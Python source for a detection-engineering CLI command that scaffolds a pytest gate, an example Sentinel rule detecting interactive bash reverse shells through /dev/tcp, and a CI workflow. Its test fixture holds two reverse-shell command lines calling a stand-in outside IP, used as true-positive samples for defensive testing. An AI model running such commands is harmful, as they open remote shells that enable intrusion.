"""``ctirealm init``: set up the current folder to gate its own detections with pytest.

Writes, only where nothing is there yet (it never overwrites, so running it twice is safe):

- ``pytest.ini`` enabling the content gate on ``detections/`` (skipped, with the lines to add,
  when the folder already configures pytest elsewhere: a new ``pytest.ini`` would shadow it);
  when the folder already holds Sentinel rules, on the folder that holds them instead;
- an example Sentinel analytics rule with its test data (``detections/<rule>.tests/``), unless
  the folder already holds Sentinel rules of its own;
- a GitHub Actions workflow, ``.github/workflows/detections.yml``.

The plugin itself is enabled by installing ctirealm (a pytest entry point), so no conftest.py is
needed.
"""

from __future__ import annotations

import argparse
import configparser
import json
import os
from pathlib import Path

RULE = "reverse_shell_from_service_account"

PYTEST_INI = """\
[pytest]
# ctirealm's content gate: every Sentinel analytics rule or hunting query, Defender custom
# detection rule (Graph JSON/YAML), Sigma rule, .kql query and KQL block of a Markdown page
# under {folder}/ becomes test items (parse, runs, true_positives, false_positives and the
# checks of its kind). Test data for a rule lives beside it in <rule>.tests/.
testpaths = {folder}
realm_content = {folder}
"""
#: Folders never searched for existing rules.
_SKIPPED = {"node_modules", "venv", "env", "build", "dist", "site-packages"}

EXAMPLE_RULE = """\
id: 3f6f1c7e-5b0a-4d4e-9a57-0c1d2e3f4a5b
name: Interactive reverse shell through /dev/tcp
description: |
  An interactive shell whose input and output are redirected to a TCP connection
  (bash's /dev/tcp), the shape of a reverse shell started by an exploited service.
  Port checks through /dev/tcp by deployment scripts are not interactive and do not match.
severity: High
requiredDataConnectors:
  - connectorId: MicrosoftThreatProtection
    dataTypes:
      - DeviceProcessEvents
queryFrequency: 1h
queryPeriod: 1h
triggerOperator: gt
triggerThreshold: 0
tactics:
  - Execution
relevantTechniques:
  - T1059.004
query: |
  DeviceProcessEvents
  | where ProcessCommandLine has "/dev/tcp/"
  | where ProcessCommandLine matches regex @"bash\\s+-[a-z]*i"
  | project Timestamp, DeviceName, AccountName, ProcessCommandLine,
      InitiatingProcessCommandLine, ReportId
entityMappings:
  - entityType: Host
    fieldMappings:
      - identifier: HostName
        columnName: DeviceName
  - entityType: Account
    fieldMappings:
      - identifier: Name
        columnName: AccountName
  - entityType: Process
    fieldMappings:
      - identifier: CommandLine
        columnName: ProcessCommandLine
version: 1.0.0
kind: Scheduled
"""

# As the Sentinel portal exports query results: a header row, "[UTC]" on datetime headers,
# JSON text in dynamic columns, an empty cell for no value.
MATCH_CSV = (
    "\n".join(
        [
            "Timestamp [UTC],DeviceName,AccountName,FolderPath,ProcessCommandLine,"
            "InitiatingProcessFileName,InitiatingProcessCommandLine,AdditionalFields",
            "2025-11-04T14:02:11.000Z,app-07.corp.example,svc-tomcat,/usr/bin/bash,"
            '"bash -i >& /dev/tcp/203.0.113.50/4444 0>&1",java,"java -jar /opt/app/service.jar",'
            '"{""source"": ""export""}"',
            "2025-11-04T14:09:40.000Z,app-07.corp.example,svc-tomcat,/usr/bin/bash,"
            '"/bin/bash -li >& /dev/tcp/203.0.113.50/443 0>&1",java,"java -jar /opt/app/service.jar",',
        ]
    )
    + "\n"
)

NOMATCH_JSONL = (
    json.dumps(
        {
            "Timestamp": "2025-11-04T13:55:00Z",
            "DeviceName": "app-07.corp.example",
            "AccountName": "deploy",
            "FolderPath": "/usr/bin/bash",
            "ProcessCommandLine": "bash -c 'echo > /dev/tcp/db-01/5432 && echo open'",
            "InitiatingProcessFileName": "ansible",
        }
    )
    + "\n"
)

TESTS_YAML = """\
# Alerts the rule may raise over ctirealm's benign background before it fails.
max_false_positives: 0
"""

WORKFLOW = """\
name: detections
on: [push, pull_request]
jobs:
  gate:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@v5
        with:
          python-version: "3.12"
      - run: pip install ctirealm
      # The benign background the rules run over is built from the dataset that ships in
      # the ctirealm package (CTIREALM_TELEMETRY points at another telemetry/ folder); building
      # it takes about a minute, so the built store is cached between runs.
      - uses: actions/cache@v4
        with:
          path: ~/.cache/ctirealm
          key: ctirealm-store-${{ runner.os }}
      - run: pytest -rs
"""


def files() -> dict[str, str]:
    """What `init` writes, by path relative to the folder."""
    return {
        f"detections/{RULE}.yaml": EXAMPLE_RULE,
        f"detections/{RULE}.tests/match/DeviceProcessEvents.csv": MATCH_CSV,
        f"detections/{RULE}.tests/nomatch/DeviceProcessEvents.jsonl": NOMATCH_JSONL,
        f"detections/{RULE}.tests/tests.yaml": TESTS_YAML,
        ".github/workflows/detections.yml": WORKFLOW,
    }


def pytest_configured(folder: Path) -> str | None:
    """The file that already configures pytest in *folder*, if any."""
    if (folder / "pytest.ini").is_file():
        return "pytest.ini"
    if (folder / "pyproject.toml").is_file() and "[tool.pytest.ini_options]" in (
        folder / "pyproject.toml"
    ).read_text(encoding="utf-8"):
        return "pyproject.toml"
    for name, section in (("tox.ini", "pytest"), ("setup.cfg", "tool:pytest")):
        path = folder / name
        if path.is_file():
            parser = configparser.ConfigParser()
            try:
                parser.read(path, encoding="utf-8")
            except configparser.Error:
                continue
            if parser.has_section(section):
                return name
    return None


def existing_rules(folder: Path) -> list[Path]:
    """The Sentinel rules (analytics and hunting) and Defender custom detection rules already in
    *folder*, hidden folders, virtual environments and rules' test data left out."""
    from ..plugin.content import content_kind

    found = []
    for path in sorted(folder.rglob("*")):
        parts = path.relative_to(folder).parts
        if any(p.startswith(".") or p in _SKIPPED or p.endswith(".tests") for p in parts[:-1]):
            continue
        if (
            path.suffix.lower() in (".yaml", ".yml", ".json")
            and path.is_file()
            and content_kind(path) in ("sentinel", "sentinel_hunting", "defender")
        ):
            found.append(path)
    example = folder / "detections" / f"{RULE}.yaml"
    return [] if found == [example] else found


def content_folder(folder: Path, rules: list[Path]) -> str:
    """Where *rules* live, relative to *folder* (``.`` for the folder itself)."""
    if not rules:
        return "detections"
    common = Path(os.path.commonpath([r.parent for r in rules]))
    relative = common.relative_to(folder.resolve()) if common.is_absolute() else common
    return relative.as_posix() or "."


def init(folder: Path) -> list[tuple[str, str]]:
    """Write the missing files into *folder*; ``(path, what happened)`` for each."""
    done: list[tuple[str, str]] = []
    rules = existing_rules(folder.resolve())
    where = content_folder(folder, rules)
    configured = pytest_configured(folder)
    if configured is None:
        (folder / "pytest.ini").write_text(PYTEST_INI.format(folder=where), encoding="utf-8")
        done.append(("pytest.ini", f"created (content: {where}/)"))
    else:
        done.append((configured, f"exists, left alone: add 'realm_content = {where}' to its pytest section"))
    for relative, text in files().items():
        if rules and relative.startswith("detections/"):
            continue
        path = folder / relative
        if path.exists():
            done.append((relative, "exists, left alone"))
            continue
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        done.append((relative, "created"))
    return done


def register(subparsers: argparse._SubParsersAction) -> None:
    parser = subparsers.add_parser(
        "init",
        help="set up this folder to gate its own detections with pytest",
        description="Write pytest.ini (the content gate on detections/), an example Sentinel "
        "rule with test data, and a GitHub Actions workflow. Existing files are "
        "never overwritten.",
    )
    parser.add_argument(
        "folder", nargs="?", type=Path, default=Path("."), help="where to write (default: the current folder)"
    )
    parser.set_defaults(handler=_init)


def _init(args: argparse.Namespace) -> int:
    folder: Path = args.folder
    if not folder.is_dir():
        raise FileNotFoundError(f"{folder}: no such folder")
    found = len(existing_rules(folder.resolve()))
    for relative, what in init(folder):
        print(f"{relative}: {what}")
    if found:
        print(
            f"found {found} Sentinel or Defender rules of your own, so no example rule was "
            "written; "
            "test data for a rule goes in <rule>.tests/match/<Table>.csv beside it"
        )
    print("next: pytest -rs")
    return 0
